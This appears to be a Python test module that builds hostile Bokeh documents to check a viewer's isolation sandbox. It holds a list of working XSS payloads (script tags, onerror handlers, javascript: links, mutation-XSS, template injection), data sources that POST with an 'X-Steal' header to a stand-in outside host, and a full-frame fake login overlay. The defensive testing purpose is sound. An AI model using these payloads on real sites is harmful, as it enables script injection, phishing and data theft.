"""Hostile documents without a script of their own: markup wherever text goes, and models that name addresses.

A watcher (CustomJS) stands by. It waits until the markup is there, clicks whatever can be clicked, and reports what
ran. ``OUT``, ``APP``, ``VICTIM`` and ``NAME`` in a payload are filled in.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any, cast

from bokeh.core.properties import value
from bokeh.document import Document
from bokeh.models import (
    AjaxDataSource,
    ColumnDataSource,
    CustomJS,
    GlobalInlineStyleSheet,
    HoverTool,
    ImportedStyleSheet,
    InlineStyleSheet,
    Model,
    OpenURL,
    Range1d,
    ServerSentDataSource,
    TabPanel,
    Tabs,
)
from bokeh.models.annotations import Legend, LegendItem
from bokeh.models.dom import HTML
from bokeh.models.dom import Div as DomDiv
from bokeh.models.textures import ImageURLTexture
from bokeh.models.tiles import WMTSTileSource
from bokeh.models.ui import Dialog, Tooltip
from bokeh.models.widgets import (
    Button,
    CheckboxGroup,
    DataTable,
    Div,
    HTMLTemplateFormatter,
    MultiChoice,
    Paragraph,
    PreText,
    Select,
    Slider,
    TableColumn,
    TextInput,
)
from bokeh.plotting import figure

from tests.isolation.attacks import Place, script
from tests.isolation.vectors import document, plot

SINK = "<i class=sink></i>"
WATCH = """const everything = function* (root = document) {
  for (const element of root.querySelectorAll("*")) {
    yield element;
    if (element.shadowRoot) yield* everything(element.shadowRoot);
  }
};
const end = performance.now() + 3000;
const found = (wanted) => [...everything()].filter((element) => element.matches(wanted));
while (found(".sink").length === 0 && performance.now() < end) await soon(50);
await soon();
tried.push(...found(".sink").map((element) => element.getRootNode().host?.className ?? "page"));
report(false);
for (const element of found("#outer a, .sink ~ a, .sink ~ form button, .sink ~ * a, .press")) {
  element.dispatchEvent(new MouseEvent("click", {bubbles: true, cancelable: true, composed: true}));
}
await soon();
leaks.push(...(globalThis.early ?? []), ...(globalThis.outside ? ["a script from outside ran"] : []));"""
RUN = "(globalThis.early ??= []).push('a handler ran')"
PAYLOADS = {
    "script": f"<script>{RUN}</script><script src='OUT/sink.js'></script><script type=module>{RUN}</script>",
    "onerror": f'<img src=x onerror="{RUN}"><img src="OUT/img.svg"><video src="OUT/v.mp4" onerror="{RUN}"></video>',
    "onload": f'<svg onload="{RUN}"><script>{RUN}</script><animate onbegin="{RUN}" attributeName=x dur=1s /></svg>',
    "ontoggle": f'<details open ontoggle="{RUN}">x</details><input autofocus onfocus="{RUN}"><p onclick="{RUN}"></p>',
    "javascript-link": f'<a href="javascript:{RUN}">x</a><a href="java&#10;script:{RUN}">y</a>',
    "base": '<base href="OUT/"><img src="relative.svg"><a href="relative.html">x</a>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=OUT/refresh.html">',
    "meta-policy": '<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="OUT/after.svg">',
    "form": '<form action="OUT/form.html" method=post><input name=a value=b><button>x</button></form>',
    "form-script": f'<form action="javascript:{RUN}"><button formaction="javascript:{RUN}">x</button></form>',
    "iframe": '<iframe src="OUT/frame.html"></iframe><iframe src="javascript:1"></iframe><object data="OUT/o.html">',
    "srcdoc": f"<iframe srcdoc=\"<script>parent.{RUN}</script><img src='OUT/srcdoc.svg'>\"></iframe>",
    "link": '<link rel=stylesheet href="OUT/link.css"><link rel=prefetch href="OUT/p.css">'
    '<a ping="OUT/ping" href="#">x</a>',
    "style": '<style>@import "OUT/import.css"; * { background: url(OUT/url.svg) }</style>'
    '<p style="background: url(OUT/attribute.svg)">x</p>',
    "end-of-script": f'</script><script>{RUN}</script><img src=x onerror="{RUN}">',
    "comment-in-script": f'<!--<script>{RUN}--><img src=x onerror="{RUN}"></script>',
    "line-separators": f'\u2028{RUN}\u2029\u0000</title></textarea></style><img src=x onerror="{RUN}">',
    "template": f"<%= {RUN} %> {{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} <template shadowrootmode=open>"
    f'<img src=x onerror="{RUN}"></template>',
    "mutated": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "math": f"$$\\href{{javascript:{RUN}}}{{x}} \\style{{background:url(OUT/tex.svg)}}{{y}} \\unicode{{60}}$$"
    f"<math href='javascript:{RUN}'><mtext>x</mtext></math>",
}
"""Markup, by what it tries."""


def everywhere(text: str) -> list[Model]:
    """The text in every place of a document that shows text."""
    source = ColumnDataSource({"x": [1.0], "y": [1.0], "name": [text]})
    drawn = figure(width=300, height=200, title=text, x_axis_label=text, tooltips=f"<div>@name{{safe}} {text}</div>")
    drawn.scatter("x", "y", source=source, size=60, legend_label=text)
    drawn.add_layout(Legend(items=[LegendItem(label=value(text))]))
    columns = [
        TableColumn(field="name", title=text),
        TableColumn(
            field="name",
            title="t",
            formatter=HTMLTemplateFormatter(template=f"<b><%= value %></b>{text.replace('<%', '')}"),
        ),
    ]
    return [
        Div(text=text, tags=[text], name=text),
        Paragraph(text=text),
        PreText(text=text),
        Slider(start=0, end=1, value=0, title=text),
        Button(label=text),
        Select(title=text, options=[text, None]),
        MultiChoice(title=text, options=[text], value=[text], placeholder=text),
        CheckboxGroup(labels=[text]),
        TextInput(
            title=text, value=text, placeholder=text, description=Tooltip(content=HTML(html=text), position="right")
        ),
        Tabs(tabs=[TabPanel(title=text, child=Div(text=text, html_attributes={"onclick": RUN, "title": text}))]),
        Dialog(title=text, content=DomDiv(children=[HTML(html=text)]), visible=True),
        drawn,
        DataTable(source=source, columns=columns, width=300, height=100),
    ]


def watcher(name: str, place: Place) -> Model:
    """What reports."""
    made = plot()
    made.js_on_change("inner_width", CustomJS(code=script(name, place, WATCH, "undefined")))
    return made


def filled(text: str, name: str, place: Place) -> str:
    """A payload with its addresses."""
    return text.replace("OUT", f"{place.outside}/{name}").replace("APP", place.app).replace("VICTIM", place.victim)


def sink(name: str, payload: str, place: Place) -> Document:
    """A document with this markup everywhere, its title included."""
    text = SINK + filled(payload, name, place)
    return document(*everywhere(text), watcher(name, place), title=text)


def styles(base: str, place: Place) -> list[Model]:
    css = f'@import "{base}/import.css"; :host {{ background: url({base}/host.svg) }}'
    sheets = [
        InlineStyleSheet(css=css),
        ImportedStyleSheet(url=f"{base}/imported.css"),
        GlobalInlineStyleSheet(css=css),
    ]
    return [
        Div(text=SINK, stylesheets=[*sheets, css], styles={"background": f"url({base}/styles.svg)"}),
        Div(text=SINK, html_attributes={"style": f"background: url({base}/attribute.svg)"}, css_classes=["x"]),
    ]


def pictures(base: str, place: Place) -> list[Model]:
    drawn = figure(width=300, height=200, x_range=Range1d(start=0, end=10), y_range=Range1d(start=0, end=10))
    drawn.image_url(url=[f"{base}/image.svg"], x=1, y=1, w=2, h=2)
    texture = ImageURLTexture(url=f"{base}/texture.svg")
    drawn.vbar([5], top=[5], hatch_pattern=value(cast(Any, "own")), hatch_extra={"own": texture})
    drawn.add_tools(HoverTool(icon=f'data:image/svg+xml;utf8,"), url({base}/icon.svg), url("'))
    drawn.add_tile(WMTSTileSource(url=f"{base}/tile/{{X}}/{{Y}}/{{Z}}.svg"))
    return [drawn, Div(text=SINK)]


def fetched(base: str, place: Place) -> list[Model]:
    steal = {"X-Steal": "yes"}
    sources = [
        AjaxDataSource(data_url=f"{base}/ajax", method="POST", polling_interval=200, http_headers=steal),
        AjaxDataSource(
            data_url=f"{place.app}/api/v1/documents", method="POST", polling_interval=200, http_headers=steal
        ),
        ServerSentDataSource(data_url=f"{base}/events"),
        ServerSentDataSource(data_url=f"{place.app}/api/v1/documents"),
    ]
    drawn = figure(width=300, height=200)
    for source in sources:
        drawn.scatter("x", "y", source=source)
    return [drawn, Div(text=SINK)]


def opened(base: str, place: Place) -> list[Model]:
    made: list[Model] = [Div(text=SINK)]
    for url in (f"{base}/open.html", "javascript:alert(1)", f"data:text/html,<img src={base}/data.svg>"):
        for same in (True, False):
            button = Button(label="x", css_classes=["opener"])
            button.js_on_event("button_click", OpenURL(url=url, same_tab=same))
            made.append(button)
    made.append(Div(text=f'{SINK}<a class=press target=_top href="{base}/top.html">x</a>'))
    return made


def shell_like(base: str, place: Place) -> list[Model]:
    """What looks like our own page, over all of the frame."""
    form = f'<form action="{base}/login.html"><input type=password><button class=press>Log in</button></form>'
    css = "position: fixed; inset: -5000px 0 0; width: 100vw; height: 20000px; z-index: 2147483647; background: red"
    return [Div(text=f"{SINK}<div style='{css}'>{form}</div>", styles={"position": "fixed", "top": "-900px"})]


Roots = Callable[[str, Place], list[Model]]
MODELS: dict[str, Roots] = {
    "styles": styles,
    "pictures": pictures,
    "fetched": fetched,
    "opened": opened,
    "shell-like": shell_like,
}
"""Models that name addresses, by what they are for."""


def addressed(name: str, roots: Roots, place: Place) -> Document:
    """A document with models that name addresses outside, and ours."""
    return document(*roots(f"{place.outside}/{name}", place), watcher(name, place))


def renamed(place: Place) -> Document:
    """A document in which ids, names and types are markup and numbers out of range."""
    made = document(watcher("renamed", place), Div(text=SINK, name="<img src=x onerror=alert(1)>", tags=["</script>"]))
    text = json.dumps(made.to_json(deferred=False)).replace(made.roots[1].id, "<img src=x onerror=alert(1)>")
    return StoredDocument(json.loads(text))


class StoredDocument(Document):
    """A document that is this JSON."""

    def __init__(self, content: object) -> None:
        super().__init__()
        self._content = content

    def to_json(self, *, deferred: bool = True) -> object:  # type: ignore[override]
        """The JSON as it is to be stored."""
        return self._content
